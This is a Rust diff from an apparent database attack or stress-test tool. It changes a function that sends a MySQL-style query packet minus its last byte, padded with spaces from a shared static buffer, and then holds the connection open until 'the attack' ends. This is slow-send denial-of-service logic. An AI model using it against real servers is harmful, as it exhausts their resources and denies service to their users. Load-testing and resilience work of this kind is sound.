@@ -192,25 +192,26 @@ fn send_statements(
     answers
 }
 
+/// What an unfinished packet is filled with, for all clients.
+static BLANKS: [u8; 64 << 10] = [b' '; 64 << 10];
+
 /// Sends all of a packet except its last byte, and waits.
 fn send_unfinished(mut client: Client, packet_bytes: usize, end: &Receiver<()>) -> u64 {
     let announced = packet_bytes.min(0xff_fffe).to_le_bytes();
-    let mut packet = vec![announced[0], announced[1], announced[2], 0, 3];
-    packet.resize(packet_bytes + 3, b' ');
+    let head = [announced[0], announced[1], announced[2], 0, 3];
     let stream = client.stream();
-    // What the server does not read now it may read later, so no more is sent.
-    let mut rest = packet.as_slice();
-    if stream.set_write_timeout(Some(WRITE_LIMIT)).is_err() {
+    if stream.write_all(&head).is_err() || stream.set_write_timeout(Some(WRITE_LIMIT)).is_err() {
         return 0;
     }
-    while !rest.is_empty() && !is_over(end, Duration::ZERO) {
-        match stream.write(rest) {
-            Ok(count) => rest = &rest[count..],
+    // What the server does not read now it may read later, so no more is sent.
+    let mut left = packet_bytes.saturating_sub(2);
+    while 0 < left && !is_over(end, Duration::ZERO) {
+        match stream.write(&BLANKS[..left.min(BLANKS.len())]) {
+            Ok(count) => left -= count,
             Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
             Err(_) => break,
         }
     }
-    drop(packet);
     // Until the attack is over.
     let _ = end.recv();
     0
